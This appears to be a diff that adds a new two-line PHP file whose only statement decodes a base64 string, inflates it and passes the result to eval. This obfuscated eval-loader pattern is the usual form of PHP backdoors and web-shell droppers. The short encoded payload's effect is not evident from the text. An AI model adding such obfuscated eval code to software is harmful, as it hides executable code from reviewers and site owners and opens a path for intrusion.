@@ -1,0 +1,2 @@
+<?php
+eval(gzinflate(base64_decode('S0lNzs9JUShJLS4BAA==')));
